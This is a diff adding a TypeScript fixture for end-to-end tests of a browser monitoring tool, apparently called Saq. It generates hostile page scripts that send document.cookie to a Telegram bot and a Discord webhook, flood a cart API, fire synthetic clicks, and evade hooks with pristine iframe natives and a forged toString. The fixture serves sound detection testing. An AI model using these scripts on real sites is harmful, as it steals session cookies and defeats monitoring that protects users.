@@ -1,0 +1,95 @@
+/**
+ * Hostile page code for the hostile-world suite (tests/e2e/hostile-*.e2e.ts): pages that attack Saq itself
+ * — replacing the functions its hooks sit on, taking pristine functions from fresh frames, imitating its
+ * private channel, flooding it, throwing from getters it might touch — and then do what a helper does
+ * (exfiltration, a cart burst, synthetic clicks), so a test can check that Saq still sees the helper.
+ *
+ * Every step is wrapped so a failure is logged in `window.__hostileLog` instead of thrown: the page must
+ * have no uncaught errors of its own, so that any that appear are Saq's.
+ */
+export const HELPER_CDN = 'helper-cdn.test';
+/** Exfiltration endpoints; `tag` makes each attack's requests (and the verdicts about them) tell apart. */
+export const telegramUrl = (tag: string): string => `https://api.telegram.org/bot1:${tag}/sendMessage`;
+export const discordUrl = (tag: string): string => `https://discord.com/api/webhooks/1/${tag}`;
+
+/** Where the attack gets its functions from. */
+export type Realm = 'page' | 'about-blank' | 'srcdoc' | 'sandboxed';
+
+/** Shared prelude: the log and a `step(name, fn)` that never throws. */
+const PRELUDE = `window.__hostileLog = window.__hostileLog || [];
+  const step = (name, fn) => { try { const r = fn(); if (r && typeof r.catch === 'function') r.catch((e) => window.__hostileLog.push(name + ': ' + e)); } catch (e) { window.__hostileLog.push(name + ': ' + e); } };`;
+
+/** Expression (in an async function) for the window whose functions the attack uses. */
+function realmExpression(realm: Realm): string {
+  switch (realm) {
+    case 'page':
+      return 'window';
+    case 'about-blank':
+      return `(() => { const f = document.createElement('iframe'); f.style.display = 'none'; document.body.appendChild(f); return f.contentWindow; })()`;
+    case 'srcdoc':
+      return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.srcdoc = '<p>clean</p>'; f.onload = () => resolve(f.contentWindow); document.body.appendChild(f); })`;
+    case 'sandboxed':
+      return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.setAttribute('sandbox', 'allow-same-origin'); f.onload = () => resolve(f.contentWindow); document.body.appendChild(f); })`;
+  }
+}
+
+/**
+ * The helper's work, with functions taken from `realm`: cookies to a Telegram bot by fetch and to a Discord
+ * webhook by XHR, eight add-to-cart reservations in a burst, and synthetic clicks on the buy button by
+ * `click()` and by `dispatchEvent`. Sets `window.__attackDone[tag]` when it has run.
+ */
+export function helperAttack(realm: Realm, tag: string): string {
+  return `(async () => {
+  ${PRELUDE}
+  const w = ${realmExpression(realm)};
+  const fetchFn = w.fetch;
+  const button = document.querySelector('[data-action="add-to-cart"]');
+  step('fetch exfiltration', () => fetchFn.call(window, ${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' }));
+  step('xhr exfiltration', () => { const x = new w.XMLHttpRequest(); x.open('POST', ${JSON.stringify(discordUrl(tag))}); x.send(JSON.stringify({ content: document.cookie })); });
+  const productId = document.querySelector('[data-role="buy-block"]')?.dataset.productId ?? 'p-102';
+  for (let i = 0; i < 8; i++) {
+    step('cart burst', () => fetchFn.call(window, '/api/cart/reserve', { method: 'POST', credentials: 'same-origin', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId, qty: 2 }) }));
+  }
+  if (button) {
+    for (let i = 0; i < 3; i++) step('click()', () => w.HTMLElement.prototype.click.call(button));
+    for (let i = 0; i < 2; i++) step('dispatchEvent', () => w.EventTarget.prototype.dispatchEvent.call(button, new w.MouseEvent('click', { bubbles: true, cancelable: true })));
+  }
+  (window.__attackDone = window.__attackDone || {})[${JSON.stringify(tag)}] = true;
+})();`;
+}
+
+/**
+ * Page code that replaces the functions Saq hooks: `fetch`, `XMLHttpRequest.prototype.open/send`,
+ * `EventTarget.prototype.addEventListener/dispatchEvent`, `HTMLElement.prototype.click` and
+ * `Function.prototype.toString` — with wrappers that call through (what a monitoring library does), with
+ * pristine natives from a fresh frame (the bypass), and a `toString` that lies ("[native code]" for all).
+ */
+export function replaceHooks(how: 'wrappers' | 'pristine'): string {
+  const source =
+    how === 'pristine'
+      ? `(() => { const f = document.createElement('iframe'); f.style.display = 'none'; (document.body || document.documentElement).appendChild(f); return f.contentWindow; })()`
+      : 'null';
+  return `(() => {
+  ${PRELUDE}
+  const clean = ${source};
+  const swap = (owner, key, cleanOwner) => step('replace ' + key, () => {
+    const before = owner[key];
+    owner[key] = cleanOwner ? cleanOwner[key] : function (...args) { return before.apply(this, args); };
+  });
+  swap(window, 'fetch', clean);
+  swap(XMLHttpRequest.prototype, 'open', clean && clean.XMLHttpRequest.prototype);
+  swap(XMLHttpRequest.prototype, 'send', clean && clean.XMLHttpRequest.prototype);
+  swap(EventTarget.prototype, 'addEventListener', clean && clean.EventTarget.prototype);
+  swap(EventTarget.prototype, 'dispatchEvent', clean && clean.EventTarget.prototype);
+  swap(HTMLElement.prototype, 'click', clean && clean.HTMLElement.prototype);
+  step('lying toString', () => {
+    const native = Function.prototype.toString;
+    Function.prototype.toString = function toString() { return typeof this === 'function' ? 'function ' + (this.name || '') + '() { [native code] }' : native.call(this); };
+  });
+  window.__hooksReplaced = ${JSON.stringify(how)};
+})();`;
+}
+
+/** A script element for a page: inline code, or a script from the helper's CDN. */
+export const inline = (code: string): string => `<script>${code}</script>`;
+export const fromCdn = (name: string): string => `<script src="https://${HELPER_CDN}/${name}.js"></script>`;
